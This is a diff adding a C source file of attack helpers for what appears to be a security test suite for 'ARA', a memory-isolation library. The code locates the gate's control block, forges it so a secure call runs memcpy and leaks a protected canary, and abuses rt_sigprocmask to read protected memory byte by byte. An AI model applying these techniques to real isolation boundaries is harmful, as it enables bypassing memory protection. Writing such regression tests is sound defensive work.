@@ -1,0 +1,146 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/* libara's symbols and the gate's control block, for attack programs (attack_libara.h). */
+#define _GNU_SOURCE
+#include <elf.h>
+#include <errno.h>
+#include <signal.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+#include "ara/ara.h"
+#include "ara/domains.h"
+#include "attack.h"
+#include "attack_libara.h"
+
+const char *attack_libara_file = "";
+
+uint64_t attack_memfd_base(const char *name)
+{
+	char line[512], want[64];
+	FILE *f = fopen("/proc/self/maps", "r");
+	uint64_t base = 0;
+
+	snprintf(want, sizeof(want), "/memfd:%s (deleted)", name);
+	while (f && fgets(line, sizeof(line), f)) {
+		unsigned long long s, off;
+
+		if (sscanf(line, "%llx-%*x %*s %llx", &s, &off) == 2 && off == 0 && strstr(line, want)) {
+			base = s;
+			break;
+		}
+	}
+	if (f)
+		fclose(f);
+	return base;
+}
+
+/* st_value of a symbol in the file's .symtab (libara.so is not stripped), or 0. */
+static uint64_t file_symbol(const char *file, const char *name, uint64_t *size)
+{
+	static unsigned char img[4 << 20];
+	FILE *f = fopen(file, "rb");
+	size_t n = f ? fread(img, 1, sizeof(img), f) : 0;
+	const Elf64_Ehdr *eh = (const Elf64_Ehdr *)img;
+
+	if (f)
+		fclose(f);
+	if (n < sizeof(*eh) || eh->e_shoff + (uint64_t)eh->e_shnum * sizeof(Elf64_Shdr) > n)
+		return 0;
+	const Elf64_Shdr *sh = (const Elf64_Shdr *)(img + eh->e_shoff);
+	for (unsigned int i = 0; i < eh->e_shnum; i++) {
+		if (sh[i].sh_type != SHT_SYMTAB || sh[i].sh_link >= eh->e_shnum ||
+		    sh[i].sh_offset + sh[i].sh_size > n)
+			continue;
+		const Elf64_Sym *sym = (const Elf64_Sym *)(img + sh[i].sh_offset);
+		const Elf64_Shdr *str = &sh[sh[i].sh_link];
+
+		for (size_t j = 0; j < sh[i].sh_size / sizeof(*sym); j++)
+			if (sym[j].st_name < str->sh_size && str->sh_offset + str->sh_size <= n &&
+			    strcmp((const char *)img + str->sh_offset + sym[j].st_name, name) == 0) {
+				if (size)
+					*size = sym[j].st_size;
+				return sym[j].st_value;
+			}
+	}
+	return 0;
+}
+
+uint64_t attack_libara_symbol(const char *name, uint64_t *size)
+{
+	uint64_t base = attack_memfd_base("ara-libara"), at = file_symbol(attack_libara_file, name, size);
+
+	if (!base || !at) {
+		printf("FAIL: cannot find libara's %s in %s\n", name, attack_libara_file);
+		return 0;
+	}
+	return base + at;
+}
+
+uint64_t attack_control_block(void)
+{
+	uint64_t entry = attack_memfd_base("ara-entry");
+
+	for (size_t i = 0; entry && i < attack_n_dom0; i++)
+		if (attack_dom0[i].perms[1] == 'w' && attack_dom0[i].start > entry &&
+		    attack_dom0[i].end - attack_dom0[i].start == 4096 &&
+		    attack_dom0[i].start - entry < (1u << 24))
+			return attack_dom0[i].start;
+	printf("FAIL: the gate's control block was not found\n");
+	return 0;
+}
+
+struct fake_cb { /* struct ara_gate_cb (ara/gate.h) */
+	uint64_t claimed, stack_mask, stack_base, stack_stride, dispatch;
+};
+
+void attack_exploit_control_block(uint64_t control_block)
+{
+	static _Alignas(16) unsigned char fake_stack[64 * 1024];
+	static uint64_t claimed; /* the fake block's stack bitmap: none in use */
+	static char stolen[64];
+	const uint64_t memcpy_at = attack_libara_symbol("memcpy", NULL);
+	const uint64_t canary = attack_libara_symbol("dom0_canary", NULL);
+	struct fake_cb *cb = (struct fake_cb *)(uintptr_t)control_block;
+	int (*gate3)(uint64_t, uint64_t, uint64_t) =
+		(int (*)(uint64_t, uint64_t, uint64_t))(void (*)(void))secure_call;
+
+	if (!memcpy_at || !canary)
+		return;
+	cb->claimed = (uint64_t)(uintptr_t)&claimed;
+	cb->stack_mask = 1;
+	cb->stack_base = (uint64_t)(uintptr_t)fake_stack;
+	cb->stack_stride = sizeof(fake_stack);
+	cb->dispatch = memcpy_at;
+	/* secure_call now runs memcpy(stolen, canary, len) with DOM0's row. */
+	gate3((uint64_t)(uintptr_t)stolen, canary, sizeof(stolen) - 1);
+	attack_show_leak((const unsigned char *)stolen, sizeof(stolen) - 1, canary);
+}
+
+int attack_copy_canary_in(const char *how)
+{
+	const uint64_t canary = attack_libara_symbol("dom0_canary", NULL);
+	unsigned char stolen[48];
+	uint64_t zero = 0, got;
+
+	if (!canary)
+		return 1;
+	for (size_t i = 0; i < sizeof(stolen); i++) {
+		long rc = syscall(SYS_rt_sigprocmask, SIG_SETMASK, (void *)(uintptr_t)(canary + i), NULL, 8);
+
+		if (rc != 0) {
+			if (i == 0 && errno == EFAULT) {
+				printf("ara-evidence: %s: ARA still refuses to copy from DOM0 (EFAULT)\n", how);
+				return 0;
+			}
+			printf("FAIL: rt_sigprocmask from DOM0 failed with errno %d after %zu bytes\n", errno, i);
+			return 1;
+		}
+		syscall(SYS_rt_sigprocmask, SIG_SETMASK, &zero, &got, 8);
+		stolen[i] = (unsigned char)got;
+	}
+	printf("BREACH: %s zeroed ARA's protected-range count\n", how);
+	attack_show_leak(stolen, sizeof(stolen), canary);
+	return 1;
+}
